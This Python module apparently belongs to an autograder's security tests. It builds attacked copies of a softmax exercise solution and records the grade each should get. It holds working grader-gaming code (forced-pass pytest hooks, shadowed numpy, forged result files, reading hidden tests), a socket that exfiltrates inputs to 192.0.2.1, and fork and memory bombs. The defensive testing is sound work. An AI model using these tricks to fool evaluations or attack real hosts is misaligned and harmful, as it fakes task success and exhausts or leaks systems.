"""Malicious and broken submissions, built on top of a copy of ``solutions/`` so that they stay
valid while the sections evolve. §39 (``attention_math``) is the attacked section; its exercise
``softmax`` is the attacked exercise unless the attack breaks the whole module (then every §39
exercise is attacked). Each attack is a function ``(root) -> None`` that edits the copy in place.

``EXPECT[name]`` says what grading must give the attacked exercise: ``"zero"`` (0 points) or
``"loses"`` (fewer than full points: the output is right but of the wrong kind, or the function
also modifies its input — exactly what the same code loses in-process). ``SECTION`` attacks make
the whole section score 0. Other sections always keep full points.
"""

from __future__ import annotations

import re
import textwrap
from pathlib import Path

from grader.sections import HIDDEN_TESTS, REPO, SOLUTIONS, Section

ATTACKED = Section("sec39_attention_math")
EXERCISE = "softmax"
CORRECT = """
    x = np.asarray(x)
    x = x.astype(x.dtype if np.issubdtype(x.dtype, np.floating) else np.float64, copy=False)
    if mask is None:
        mask = np.ones(x.shape, dtype=bool)
    try:
        mask = np.broadcast_to(np.asarray(mask, dtype=bool), x.shape)
    except ValueError:
        raise ValueError("mask does not broadcast to x") from None
    m = np.max(np.where(mask, x, -np.inf), axis=axis, keepdims=True)
    m = np.where(np.isfinite(m), m, 0)
    e = np.where(mask, np.exp(np.where(mask, x - m, 0)), 0)
    total = e.sum(axis=axis, keepdims=True)
    p = e / np.where(total > 0, total, 1)
"""


def module(root: Path, section: Section = ATTACKED) -> Path:
    return section.module_file(root)


def replace_body(root: Path, body: str, func: str = EXERCISE, section: Section = ATTACKED) -> None:
    """Replace the solution region of ``func`` in ``section``'s module by ``body`` (written at
    indentation 0)."""
    path = module(root, section)
    src = path.read_text(encoding="utf-8")
    start = src.index(f"def {func}(")
    begin = src.index("### BEGIN SOLUTION", start)
    end = src.index("### END SOLUTION", begin) + len("### END SOLUTION")
    line_start = src.rindex("\n", 0, begin) + 1
    indent = src[line_start:begin]
    code = textwrap.indent(textwrap.dedent(body).strip("\n"), indent)
    path.write_text(src[:line_start] + code + src[end:], encoding="utf-8")


def append(root: Path, code: str, section: Section = ATTACKED) -> None:
    path = module(root, section)
    path.write_text(path.read_text(encoding="utf-8") + "\n\n" + textwrap.dedent(code), encoding="utf-8")


def prepend(root: Path, code: str) -> None:
    path = module(root)
    src = path.read_text(encoding="utf-8")
    # after the module docstring and the first import block
    i = src.index("\nimport ") + 1
    path.write_text(src[:i] + textwrap.dedent(code) + "\n" + src[i:], encoding="utf-8")


NOT_IMPLEMENTED = 'raise NotImplementedError("softmax: your code here")'
ATTACKS: dict = {}
EXPECT: dict[str, str] = {}
SECTION: set[str] = set()
HIDDEN_ONLY = {"mutating_inputs"}  # only a hidden test checks that inputs are left unchanged


def attack(expect: str = "zero", section: bool = False):
    def register(fn):
        ATTACKS[fn.__name__] = fn
        EXPECT[fn.__name__] = expect
        if section:
            SECTION.add(fn.__name__)
        return fn

    return register


# --- pytest configuration tricks (student files never reach pytest) ---------------------------


@attack()
def conftest_forcing_passes(root):
    hook = """
    import pytest

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
        report.longrepr = None
    """
    for folder in (root, root / ATTACKED.name, root.parent):
        (folder / "conftest.py").write_text(textwrap.dedent(hook), encoding="utf-8")
    replace_body(root, NOT_IMPLEMENTED)


@attack()
def pytest_ini_and_addopts(root):
    ini = "[pytest]\naddopts = -p no:grader.pytest_plugin -k 'not softmax' --deselect tests\npython_files = nothing_*.py\n"
    for folder in (root, root / ATTACKED.name):
        (folder / "pytest.ini").write_text(ini, encoding="utf-8")
        (folder / "setup.cfg").write_text(ini.replace("[pytest]", "[tool:pytest]"), encoding="utf-8")
    replace_body(root, NOT_IMPLEMENTED)


@attack()
def shadow_numpy_package(root):
    for folder in (root, root / ATTACKED.name):
        pkg = folder / "numpy"
        (pkg / "testing").mkdir(parents=True, exist_ok=True)
        (pkg / "__init__.py").write_text("def allclose(*a, **k):\n    return True\n", encoding="utf-8")
        (pkg / "testing" / "__init__.py").write_text("def assert_allclose(*a, **k):\n    pass\n", encoding="utf-8")
        (folder / "sitecustomize.py").write_text("import builtins\nbuiltins.__import__ = None\n", encoding="utf-8")
    replace_body(root, "return np.zeros(np.shape(x))")


@attack()
def monkeypatch_numpy_testing_and_checks(root):
    prepend(
        root,
        """
        import sys as _sys
        import numpy as _np
        import numpy.testing as _npt
        _npt.assert_allclose = lambda *a, **k: None
        _np.allclose = lambda *a, **k: True
        _np.array_equal = lambda *a, **k: True
        for _name, _mod in list(_sys.modules.items()):
            if _name.endswith("checks"):
                for _f in ("check_close", "check_equal", "check_shape", "check_dtype", "check_ndarray"):
                    setattr(_mod, _f, lambda *a, **k: None)
        """,
    )
    replace_body(root, "return np.zeros(np.shape(x))")


@attack()
def always_equal_object(root):
    replace_body(
        root,
        """
        class Anything:
            shape = np.shape(x)
            dtype = np.asarray(x).dtype
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array__(self, *a, **k): return np.zeros(np.shape(x))
            def __getattr__(self, name): return self
            def __call__(self, *a, **k): return self
        return Anything()
        """,
    )


@attack()
def ndarray_subclass_lying(root):
    replace_body(
        root,
        """
        class Liar(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)
            def __array_ufunc__(self, *a, **k): return np.zeros(np.shape(self))
            def __array_function__(self, *a, **k): return True
        return np.zeros(np.shape(x)).view(Liar)
        """,
    )


# --- ending the process ---------------------------------------------------------------------


@attack(section=True)
def os_exit_at_import(root):
    prepend(root, "import os as _os\n_os._exit(0)\n")


@attack(section=True)
def sys_exit_at_import(root):
    prepend(root, "import sys as _sys\n_sys.exit(0)\n")


@attack()
def os_exit_mid_call(root):
    replace_body(root, "import os\nos._exit(0)")


@attack()
def sys_exit_mid_call(root):
    replace_body(root, "import sys\nsys.exit(0)")


# --- forging results ------------------------------------------------------------------------


@attack()
def forged_result_files(root):
    replace_body(
        root,
        """
        import glob, json, os
        fake = [{"nodeid": "x", "name": "test_softmax", "exercise": "softmax", "points": 100, "status": "passed",
                 "message": "", "hidden": False, "section_file": "x"}]
        for pattern in ("/tmp/grade-*/results.json", "/tmp/*/results.json", "results.json", "../results.json"):
            for path in glob.glob(pattern) or [pattern]:
                try:
                    with open(path, "w") as f:
                        json.dump(fake, f)
                except OSError:
                    pass
        raise NotImplementedError("softmax")
        """,
    )


@attack()
def fake_passed_output(root):
    prepend(root, 'print("=" * 30, "999 passed in 0.01s", "=" * 30)\nprint("Points 999/999")\n')
    replace_body(root, 'print("999 passed, Points 999/999", flush=True)\n' + NOT_IMPLEMENTED)


@attack()
def daemon_outlives_the_call(root):
    replace_body(
        root,
        """
        import os, time
        if os.fork() == 0:  # a daemon that later forges replies on every inherited descriptor
            os.setsid()
            time.sleep(0.5)
            for fd in range(3, 64):
                try:
                    os.write(fd, b"\\x10\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00" + b'{"id": 1, "result": 1.0}')
                except OSError:
                    pass
            time.sleep(600)
            os._exit(0)
        return np.zeros(np.shape(x))
        """,
    )


# --- reading the grader's files, the network -------------------------------------------------


@attack()
def read_hidden_tests_and_solutions(root):
    solution = str(ATTACKED.module_file(SOLUTIONS))
    hidden = str(HIDDEN_TESTS)
    rel = "../../../grader/hidden"
    replace_body(
        root,
        f"""
        import glob, os
        try:  # with the reference's text, the answer would be right
            ns = {{}}
            exec(open({solution!r}).read(), ns)
            return ns["softmax"](x, axis=axis, mask=mask)
        except OSError:
            pass
        for pattern in ({hidden!r} + "/*.py", os.path.join(os.path.dirname(__file__), {rel!r}, "*.py"),
                        {str(REPO)!r} + "/.git/*"):
            for path in glob.glob(pattern):
                try:
                    raise ValueError(open(path).read()[:1500])
                except (OSError, UnicodeDecodeError):
                    pass
        raise PermissionError("nothing of the grader is readable")
        """,
    )


@attack()
def network_socket(root):
    replace_body(
        root,
        CORRECT
        + """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(repr(x.tolist()).encode()[:512], ("192.0.2.1", 53))  # exfiltrate the hidden inputs
        s2 = socket.create_connection(("192.0.2.1", 80), timeout=1)
        return p
        """,
    )


# --- time ---------------------------------------------------------------------------------------


@attack()
def infinite_loop(root):
    replace_body(root, "while True:\n    pass")


@attack()
def time_sleep(root):
    replace_body(root, "import time\ntime.sleep(3600)")


@attack()
def slow_but_correct(root):
    replace_body(root, CORRECT + "import time\ntime.sleep(30)\nreturn p")


@attack()
def read_stdin(root):
    replace_body(root, "import sys\ndata = sys.stdin.read()\nreturn np.full(np.shape(x), float(len(data)))")


# --- resources ----------------------------------------------------------------------------------


@attack()
def fork_bomb(root):
    replace_body(
        root,
        """
        import os, time
        for _ in range(100000):
            try:
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
            except OSError:
                break
        return np.zeros(np.shape(x))
        """,
    )


@attack()
def memory_bomb(root):
    replace_body(
        root,
        """
        hog = []
        for _ in range(1024):  # up to 64 GB, 64 MB at a time, every page touched
            hog.append(np.ones(8 << 20))
        return np.zeros(np.shape(x))
        """,
    )


@attack()
def output_flood(root):
    replace_body(
        root,
        """
        import os
        if not globals().get("_flooded"):
            globals()["_flooded"] = True
            for _ in range(200):
                os.write(1, b"spam " * 200000)
        """
        + NOT_IMPLEMENTED,
    )


@attack()
def huge_return_value(root):
    replace_body(root, "return np.zeros(50_000_000)  # 400 MB")


@attack()
def deeply_nested_return(root):
    replace_body(root, "out = []\nfor _ in range(100000):\n    out = [out]\nreturn out")


@attack()
def pickle_smuggling(root):
    replace_body(
        root,
        """
        class Evil:
            def __reduce__(self):
                return (print, ("pwned",))
        return np.array([Evil()] * 4, dtype=object)
        """,
    )


# --- broken modules -------------------------------------------------------------------------------


@attack(section=True)
def syntax_error(root):
    append(root, "def broken(:\n    pass\n")


@attack(section=True)
def exception_at_import(root):
    prepend(root, "raise RuntimeError('boom at import')\n")


# --- wrong outputs --------------------------------------------------------------------------------


@attack()
def wrong_dtype(root):
    replace_body(root, "return np.zeros(np.shape(x), dtype=np.int8)")


@attack()
def wrong_shape(root):
    replace_body(root, "return np.zeros(np.shape(x)[:-1] + (1,))")


@attack()
def nan_output(root):
    replace_body(root, "return np.full(np.shape(x), np.nan)")


@attack(expect="loses")
def torch_tensor_instead_of_numpy(root):
    replace_body(root, CORRECT + "import torch\nreturn torch.from_numpy(np.array(p))")


@attack(expect="loses")
def float32_instead_of_input_dtype(root):
    replace_body(root, CORRECT + "return p.astype(np.float32)")


@attack(expect="loses")
def mutating_inputs(root):
    replace_body(root, "x = np.asarray(x)\nif x.dtype.kind == 'f':\n    x -= np.max(x)\n" + CORRECT + "return p")


@attack(expect="loses")
def list_instead_of_array(root):
    replace_body(root, CORRECT + "return p.tolist()")


def build(name: str, dst: Path) -> Path:
    """A copy of the solutions with the attack applied, in ``dst`` (the submission folder)."""
    import shutil

    shutil.copytree(SOLUTIONS, dst, ignore=shutil.ignore_patterns("__pycache__", "*.ipynb", ".ipynb_checkpoints"))
    ATTACKS[name](dst)
    return dst


def secret_lines() -> list[str]:
    from grader.sandbox.pool import _secret_lines

    return _secret_lines()


_ = re  # kept for attack authors (patterns on module text)


def build_copy(dst: Path) -> Path:
    """An untouched copy of the solutions (the control submission)."""
    import shutil

    shutil.copytree(SOLUTIONS, dst, ignore=shutil.ignore_patterns("__pycache__", "*.ipynb", ".ipynb_checkpoints"))
    return dst
